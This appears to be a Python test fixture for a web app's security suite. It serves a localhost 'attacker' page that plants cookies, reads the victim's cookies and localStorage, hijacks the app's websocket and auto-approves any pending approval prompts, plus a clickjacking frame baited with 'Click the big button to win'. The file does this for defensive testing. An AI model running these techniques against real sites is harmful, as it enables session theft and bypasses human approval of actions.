"""The attacker's page: what another page (same origin on another path, or another
port of the same host) does with a victim's browser.

Opened with ``?ws=<the app's websocket URL>`` (and optionally ``&plant=<cookie>``,
repeated), it

- plants each ``plant`` cookie (``document.cookie = ...``), then
- records what it can read of the victim's state: ``document.cookie`` and every
  ``localStorage`` entry (``window.stolen``),
- opens the app's websocket itself (the browser attaches the victim's cookies), starts
  a Shiny session on it, records every message (``window.received``), and answers any
  approval or question it is shown with "approve"/"submit" (``window.answered``).

``window.ready`` turns true once the websocket has been open for two seconds (or has
closed).
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass

from playwright.sync_api import Page

ATTACKER_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>attacker</title></head>
<body><pre id="log"></pre>
<script>
(function () {
  const params = new URLSearchParams(window.location.search);
  params.getAll("plant").forEach(function (cookie) { document.cookie = cookie; });
  const stolen = { cookie: document.cookie, storage: {} };
  try {
    for (let i = 0; i < localStorage.length; i++) {
      const key = localStorage.key(i);
      stolen.storage[key] = localStorage.getItem(key);
    }
  } catch (e) { stolen.storage = "unreadable"; }
  window.stolen = stolen;
  window.received = [];
  window.answered = [];
  window.ready = false;
  const target = params.get("ws");
  if (!target) { window.ready = true; return; }
  const ws = new WebSocket(target);
  ws.onopen = function () {
    ws.send(JSON.stringify({ method: "init", data: {} }));
    setTimeout(function () { window.ready = true; }, 2000);
  };
  ws.onclose = function () { window.ready = true; };
  ws.onmessage = function (event) {
    const text = String(event.data);
    window.received.push(text);
    const ids = text.match(/data-request-id=\\\\?"([A-Za-z0-9_-]+)/g) || [];
    ids.forEach(function (match) {
      const id = match.replace(/^.*"/, "");
      if (window.answered.indexOf(id) >= 0) return;
      window.answered.push(id);
      const answer = { request_id: id, action: "approve", values: {}, message: "" };
      ws.send(JSON.stringify({ method: "update", data: { deputy_modal_answer: answer } }));
    });
  };
})();
</script></body></html>
"""


FRAME_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>a prize</title></head>
<body><h1>Click the big button to win</h1>
<iframe id="victim" src="{src}" style="width: 1100px; height: 750px"></iframe>
</body></html>
"""


@dataclass
class AttackerSite:
    """The attacker's page served from another port of the same host."""

    port: int

    def url(self, ws: str, *plant: str) -> str:
        """The page's address, attacking the websocket ``ws`` (planting ``plant``)."""
        from urllib.parse import urlencode

        query = urlencode([("ws", ws), *(("plant", cookie) for cookie in plant)])
        return f"http://127.0.0.1:{self.port}/attack.html?{query}"

    def frame_url(self, src: str) -> str:
        """A page of this (other) origin that frames ``src`` (to lure clicks into it)."""
        from urllib.parse import urlencode

        return f"http://127.0.0.1:{self.port}/frame.html?{urlencode({'src': src})}"


@contextmanager
def attacker_site() -> Iterator[AttackerSite]:
    """Serve :data:`ATTACKER_PAGE` on a free port of 127.0.0.1."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            from html import escape
            from urllib.parse import parse_qs, urlsplit

            url = urlsplit(self.path)
            if url.path == "/frame.html":
                src = parse_qs(url.query).get("src", [""])[0]
                body = FRAME_PAGE.format(src=escape(src)).encode()
            else:
                body = ATTACKER_PAGE.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, name="attacker-site", daemon=True)
    thread.start()
    try:
        yield AttackerSite(port=int(server.server_address[1]))
    finally:
        server.shutdown()
        server.server_close()


@dataclass(frozen=True)
class Loot:
    """What the attacker's page got."""

    cookie: str
    storage: dict[str, str]
    received: list[str]
    answered: list[str]

    @property
    def text(self) -> str:
        """Everything it read and received, as one string (to search for the victim's
        words)."""
        return "\n".join([self.cookie, *self.storage.values(), *self.received])


def run_attack(page: Page, url: str) -> Loot:
    """Open the attacker's page at ``url`` in ``page`` and collect what it got."""
    page.goto(url)
    page.wait_for_function("() => window.ready === true", timeout=20_000)
    page.wait_for_timeout(500)  # anything already on its way
    data = page.evaluate(
        "() => ({cookie: window.stolen.cookie, storage: window.stolen.storage,"
        " received: window.received, answered: window.answered})"
    )
    storage = data["storage"] if isinstance(data["storage"], dict) else {}
    return Loot(data["cookie"], storage, list(data["received"]), list(data["answered"]))
